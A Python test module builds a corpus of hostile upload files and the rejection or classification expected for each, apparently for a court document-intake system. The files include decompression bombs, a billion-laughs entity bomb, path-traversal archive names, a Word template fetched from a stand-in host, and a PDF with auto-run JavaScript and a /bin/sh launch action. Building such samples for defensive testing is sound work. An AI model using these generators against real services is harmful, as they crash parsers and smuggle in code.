"""The corpus of what people hand in by mistake or to do harm (security register, section 2).

Every file is made here, as small as its author would make it. Each stands with what is expected of
the court: a reason why it is not shown, or what is seen in it.
"""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from client.protocol.file_kinds import FileKind, FileNote
from server_stub.renditions.refusals import Reason
from tests.renditions import hostile_files as pdfs

MIB = 1 << 20


@dataclass(frozen=True)
class Expected:
    """What is seen in a file that is taken."""

    kind: FileKind
    pages: int = 0
    notes: tuple[FileNote, ...] = ()


Wanted = Reason | Expected | tuple[Reason | Expected, ...]
"""A reason; or what is seen; or any of some, where the machine decides which is met first."""

# Archives -----------------------------------------------------------------------------------------


def zipped(*files: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A hundred thousand to one at the least: 512 MiB of blanks in half a megabyte."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("blanks.txt", "w") as entry,
    ):
        for _ in range(512):
            entry.write(b" " * MIB)
    return out.getvalue()


def overlapping_zip_bomb() -> bytes:
    """Many entries of the directory that all point at the same packed bytes (Fifield, 2019)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(b" " * (32 * MIB)) + kernel.flush()
    crc = zlib.crc32(b" " * (32 * MIB))
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), 32 * MIB, 1, 0
    )
    out = head + b"a" + packed
    directory = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            32 * MIB,
            1,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"a"
        for _ in range(5_000)
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 5_000, 5_000, len(directory), len(out), 0)
    return out + directory + end


def nested_zip() -> bytes:
    content = b"x"
    for level in range(20):
        content = zipped((f"level{level}.zip", content))
    return content


def crowded_zip() -> bytes:
    return zipped(*((f"{number}", b"") for number in range(60_000)), method=zipfile.ZIP_STORED)


def zip_with_hostile_names() -> bytes:
    return zipped(
        ("../../../etc/passwd", b"x"),
        ("C:\\Windows\\system32\\drivers\\etc\\hosts", b"x"),
        ("\u202etxt.exe", b"x"),
        ("con", b"x"),
        ("n" * 4096, b"x"),
        ("a\x00b", b"x"),
    )


def tarred(*files: tuple[str, int]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, size in files:
            entry = tarfile.TarInfo(name)
            entry.size = size
            archive.addfile(entry, io.BytesIO(bytes(size)))
    return out.getvalue()


def tar_that_says_too_much() -> bytes:
    """A head that announces eight million million bytes."""
    entry = tarfile.TarInfo("endless")
    entry.size = 8 << 40
    return entry.tobuf(tarfile.GNU_FORMAT) + bytes(10_240)


def gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(MIB)
    return b"".join(packer.compress(block) for _ in range(256)) + packer.flush()


# Office papers ------------------------------------------------------------------------------------

_TYPES = ("[Content_Types].xml", b"<Types/>")
_WORD = ("word/document.xml", b"<w:document/>")


def word(*more: tuple[str, bytes]) -> bytes:
    return zipped(_TYPES, _WORD, *more)


def word_with_macro() -> bytes:
    return word(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))


def word_that_fetches_its_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument'
        b'/2006/relationships/attachedTemplate" Target="http://198.51.100.7/evil.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return word(("word/_rels/settings.xml.rels", relation))


def word_with_a_link() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument'
        b'/2006/relationships/hyperlink" Target="http://court.gov.cn" TargetMode="External"/>'
        b"</Relationships>"
    )
    return word(("word/_rels/document.xml.rels", relation))


def word_with_entities() -> bytes:
    """The billion laughs, which nobody here reads."""
    laughs = b"<!DOCTYPE l [<!ENTITY a 'lol'>" + b"".join(
        b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    return zipped(_TYPES, ("word/document.xml", laughs + b"]><l>&j;</l>"))


def excel_bomb() -> bytes:
    return zipped(
        _TYPES, ("xl/workbook.xml", b"<x/>"), ("xl/worksheets/sheet1.xml", b" " * (100 * MIB))
    )


def old_office(*names: str) -> bytes:
    """A compound file (MS-CFB) with a directory and nothing in it."""
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    head = struct.pack(
        "<8s16xHHHHH6xIIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
        0,
    )
    head += struct.pack("<I", free) * ((512 - len(head)) // 4)
    table = struct.pack("<II", 0xFFFFFFFD, end) + struct.pack("<I", free) * 126
    entries = b""
    for number in range(4):
        name = (names[number] if number < len(names) else "").encode("utf-16-le") + b"\0\0"
        entries += name.ljust(64, b"\0") + struct.pack("<H", len(name)) + bytes(62)
    return head + table + entries


# Pictures -----------------------------------------------------------------------------------------


def saved(picture: Image.Image, form: str, **how: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, form, **how)
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png_bomb(side: int) -> bytes:
    """A white square, packed a thousand to one."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * (side // 8)
    rows = b"".join(packer.compress(row * 64) for _ in range(side // 64)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )


def png_with_a_text_bomb() -> bytes:
    text = b"Comment\0\0" + zlib.compress(b" " * (200 * MIB), 9)
    whole = saved(Image.new("L", (8, 8)), "PNG")
    return whole[:33] + _chunk(b"zTXt", text) + whole[33:]


def tiff_bomb() -> bytes:
    """A head that announces 60000 by 60000 dots in one strip that is not there."""
    tags = [
        (256, 4, 1, 60_000),
        (257, 4, 1, 60_000),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (278, 4, 1, 60_000),
        (279, 4, 1, 3_600_000_000),
    ]
    body = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + body + bytes(4)


def tiff_without_end() -> bytes:
    """A page that says that it is its own next one."""
    whole = saved(Image.new("L", (8, 8)), "TIFF")
    (begin,) = struct.unpack_from("<I", whole, 4)
    (tags,) = struct.unpack_from("<H", whole, begin)
    at = begin + 2 + 12 * tags
    return whole[:at] + struct.pack("<I", begin) + whole[at + 4 :]


def gif_of_many_frames() -> bytes:
    frames = [Image.new("L", (300, 300), shade % 256) for shade in range(400)]
    return saved(frames[0], "GIF", save_all=True, append_images=frames[1:])


def photograph_with_a_place() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 0.0)
    return saved(Image.new("RGB", (40, 20), "red"), "JPEG", exif=exif)


# Polyglots ----------------------------------------------------------------------------------------


def pdf_and_zip() -> bytes:
    return pdfs.plain_page() + zipped(("hidden.exe", b"MZ" * 5000), method=zipfile.ZIP_STORED)


def gif_and_script() -> bytes:
    return saved(Image.new("L", (4, 4)), "GIF") + b"=1;alert(document.cookie)//"


def png_and_page() -> bytes:
    return saved(Image.new("L", (4, 4)), "PNG") + b"<html><script>alert(1)</script></html>"


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)

# PDF ----------------------------------------------------------------------------------------------


def pdf_that_runs() -> bytes:
    return pdfs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Launch "
        b"/F (/bin/sh) >> >> >>",
    )


def pdf_with_a_file_inside() -> bytes:
    return pdfs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R "
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        pdfs.stream(b"MZ", b"/Type /EmbeddedFile"),
    )


def pdf_of_a_million_pages() -> bytes:
    """A tree in which every branch is the same one, a hundred times, three levels deep."""
    kids = b" ".join([b"%d 0 R"] * 100)
    return pdfs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1000000 /Kids [%s] >>" % kids.replace(b"%d", b"3"),
        b"<< /Type /Pages /Parent 2 0 R /Count 10000 /Kids [%s] >>" % kids.replace(b"%d", b"4"),
        b"<< /Type /Pages /Parent 3 0 R /Count 100 /Kids [%s] >>" % kids.replace(b"%d", b"5"),
        b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 595 842] >>",
    )


def pdf_with_a_deep_tree(depth: int = 20_000) -> bytes:
    nodes = [
        b"<< /Type /Pages /Parent %d 0 R /Count 1 /Kids [%d 0 R] >>" % (number - 1, number + 1)
        for number in range(3, 3 + depth)
    ]
    return pdfs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        *nodes,
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (2 + depth),
    )


def pdf_with_a_ring_of_pages() -> bytes:
    return pdfs.pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Pages /Parent 2 0 R /Count 1 /Kids [2 0 R] >>",
    )


def pdf_with_a_ring_of_tables() -> bytes:
    whole = pdfs.plain_page()
    table = whole.rindex(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)


# Sound and films ----------------------------------------------------------------------------------


def wav(said: int, held: int) -> bytes:
    """A recording that says it has so many bytes of sound, and has others."""
    form = struct.pack("<4sIHHIIHH", b"fmt ", 16, 1, 1, 8000, 16_000, 2, 16)
    data = struct.pack("<4sI", b"data", said) + bytes(held)
    return struct.pack("<4sI4s", b"RIFF", 4 + len(form) + 8 + said, b"WAVE") + form + data


TEN_HOURS = 16_000 * 36_000


def atom(kind: bytes, content: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack(">I4s", 8 + len(content) if size is None else size, kind) + content


MP4_HEAD = atom(b"ftyp", b"isom\0\0\2\0isomiso2mp41")


def mp4_with_broken_atoms() -> bytes:
    return MP4_HEAD + atom(b"moov", atom(b"trak", b"\xff" * 64, size=0xFFFFFFF0), size=4)


def mp4_with_a_huge_table() -> bytes:
    """A table of samples that announces a thousand million of them."""
    table = atom(b"stsz", struct.pack(">III", 0, 0, 1_000_000_000) + bytes(400))
    inner = table
    for kind in (b"stbl", b"minf", b"mdia", b"trak", b"moov"):
        inner = atom(kind, inner)
    return MP4_HEAD + inner


def deep_mp4() -> bytes:
    inner = b""
    for _ in range(5_000):
        inner = atom(b"moov", inner)
    return MP4_HEAD + inner


def matroska_with_a_huge_element() -> bytes:
    return b"\x1a\x45\xdf\xa3" + b"\x01\xff\xff\xff\xff\xff\xff\xfe" + b"\0" * 64


# The corpus ---------------------------------------------------------------------------------------

ORIGINAL = FileNote.ORIGINAL_ONLY
OFFICE = Expected(FileKind.OFFICE, notes=(ORIGINAL,))
FELL = (Reason.DAMAGED, Reason.READER_FELL, Reason.TOO_SLOW, Reason.PAGE_TOO_LARGE)

CORPUS: dict[str, tuple[Callable[[], bytes], Wanted]] = {
    "nothing": (lambda: b"", Reason.EMPTY),
    "a program": (lambda: b"MZ\x90\0" + bytes(2000), Reason.NOT_TAKEN),
    "a program of Linux": (lambda: b"\x7fELF" + bytes(2000), Reason.NOT_TAKEN),
    "chance": (lambda: bytes(range(256)) * 40, Reason.NOT_TAKEN),
    "zip bomb": (zip_bomb, Reason.UNPACKS_TOO_LARGE),
    "overlapping zip bomb": (overlapping_zip_bomb, Reason.UNPACKS_TOO_LARGE),
    "nested zip": (
        nested_zip,
        Expected(FileKind.ARCHIVE, notes=(ORIGINAL, FileNote.HOLDS_ARCHIVES)),
    ),
    "crowded zip": (crowded_zip, Reason.TOO_MANY_PACKED),
    "zip with hostile names": (
        zip_with_hostile_names,
        Expected(FileKind.ARCHIVE, notes=(ORIGINAL,)),
    ),
    "zip cut short": (lambda: nested_zip()[:-30], Reason.DAMAGED),
    "tar": (lambda: tarred(("a", 3), ("../b", 4)), Expected(FileKind.ARCHIVE, notes=(ORIGINAL,))),
    "tar that says too much": (tar_that_says_too_much, Reason.UNPACKS_TOO_LARGE),
    "gzip bomb": (gzip_bomb, Reason.UNPACKS_TOO_LARGE),
    "packed tar": (
        lambda: gzip.compress(tarred(("a", 3))),
        Expected(FileKind.ARCHIVE, notes=(ORIGINAL,)),
    ),
    "seven-zip": (
        lambda: b"7z\xbc\xaf\x27\x1c\0\4" + bytes(60),
        Expected(FileKind.ARCHIVE, notes=(ORIGINAL, FileNote.LIST_CUT)),
    ),
    "word": (word, OFFICE),
    "word with a macro": (
        word_with_macro,
        Expected(FileKind.OFFICE, notes=(ORIGINAL, FileNote.HOLDS_PROGRAM)),
    ),
    "word that fetches its template": (
        word_that_fetches_its_template,
        Expected(FileKind.OFFICE, notes=(ORIGINAL, FileNote.POINTS_ELSEWHERE)),
    ),
    "word with a link": (word_with_a_link, OFFICE),
    "word with entities": (word_with_entities, OFFICE),
    "excel bomb": (excel_bomb, Reason.UNPACKS_TOO_LARGE),
    "old word": (lambda: old_office("Root Entry", "WordDocument"), OFFICE),
    "old word with a macro": (
        lambda: old_office("Root Entry", "WordDocument", "Macros"),
        Expected(FileKind.OFFICE, notes=(ORIGINAL, FileNote.HOLDS_PROGRAM)),
    ),
    "locked word": (lambda: old_office("Root Entry", "EncryptedPackage"), Reason.ENCRYPTED),
    "an installer": (lambda: old_office("Root Entry", "!_StringPool"), Reason.NOT_TAKEN),
    "png bomb": (lambda: png_bomb(30_720), Reason.PAGE_TOO_LARGE),
    "png with a text bomb": (png_with_a_text_bomb, FELL),
    "tiff bomb": (tiff_bomb, Reason.PAGE_TOO_LARGE),
    "tiff without end": (tiff_without_end, (Expected(FileKind.PICTURE, pages=1), *FELL)),
    "gif of many frames": (gif_of_many_frames, Expected(FileKind.PICTURE, pages=1)),
    "png cut short": (lambda: png_bomb(1024)[:-40], Reason.DAMAGED),
    "jpeg cut short": (
        lambda: saved(Image.effect_noise((400, 400), 80), "JPEG")[:20_000],
        Reason.DAMAGED,
    ),
    "photograph with a place": (photograph_with_a_place, Expected(FileKind.PICTURE, pages=1)),
    "plan scanned in grey": (
        lambda: saved(Image.new("L", (10_000, 7_000), 200), "PNG", compress_level=1),
        (Expected(FileKind.PICTURE, pages=1), Reason.TOO_SLOW),
    ),
    "large picture in colour": (
        lambda: saved(Image.new("RGB", (8_000, 7_000), "red"), "PNG", compress_level=1),
        (Expected(FileKind.PICTURE, pages=1), Reason.TOO_SLOW),
    ),
    "pdf and zip": (pdf_and_zip, Reason.DAMAGED),
    "gif and script": (gif_and_script, Expected(FileKind.PICTURE, pages=1)),
    "png and page": (png_and_page, Expected(FileKind.PICTURE, pages=1)),
    "html as png": (lambda: HTML, Expected(FileKind.TEXT, pages=1)),
    "svg with script": (lambda: SVG, Reason.NOT_TAKEN),
    "pdf that runs": (
        pdf_that_runs,
        Expected(FileKind.PDF, pages=1, notes=(FileNote.HOLDS_PROGRAM,)),
    ),
    "pdf with a file inside": (
        pdf_with_a_file_inside,
        Expected(FileKind.PDF, pages=1, notes=(FileNote.HOLDS_FILES,)),
    ),
    "pdf of a million pages": (pdf_of_a_million_pages, Reason.TOO_MANY_PAGES),
    "pdf with a deep tree": (pdf_with_a_deep_tree, (*FELL, Reason.TOO_MANY_PAGES)),
    "pdf with a ring of pages": (pdf_with_a_ring_of_pages, FELL),
    "pdf with a ring of tables": (
        pdf_with_a_ring_of_tables,
        (Expected(FileKind.PDF, pages=1), *FELL),
    ),
    "pdf with a flate bomb": (pdfs.flate_bomb, FELL),
    "pdf with a giant page": (pdfs.giant_page, Reason.PAGE_TOO_LARGE),
    "pdf with an endless strip": (pdfs.endless_strip, Reason.PAGE_TOO_LARGE),
    "pdf with doubling forms": (pdfs.doubling_forms, FELL),
    "toilsome pdf": (pdfs.toilsome_page, FELL),
    "locked pdf": (pdfs.encrypted, Reason.ENCRYPTED),
    "pdf cut short": (lambda: pdfs.plain_page()[:-60], Reason.DAMAGED),
    "wav": (
        lambda: wav(16_000, 16_000),
        Expected(FileKind.SOUND, notes=(ORIGINAL,)),
    ),
    "wav of ten hours in its head": (lambda: wav(TEN_HOURS, 16_000), Reason.DAMAGED),
    "mp4 with broken atoms": (mp4_with_broken_atoms, FELL),
    "mp4 with a huge table": (mp4_with_a_huge_table, FELL),
    "deep mp4": (deep_mp4, FELL),
    "matroska with a huge element": (matroska_with_a_huge_element, FELL),
    "text of one line of 50 MB": (
        lambda: b"line " * (10 * MIB),
        Expected(FileKind.TEXT, notes=(ORIGINAL,)),
    ),
    "text in GB 18030": (
        lambda: "微信聊天记录\r\n".encode("gb18030") * 3,
        Expected(FileKind.TEXT, pages=1),
    ),
    "text that turns": (
        lambda: "invoice\u202efdp.exe\n".encode(),
        Expected(FileKind.TEXT, pages=1),
    ),
}
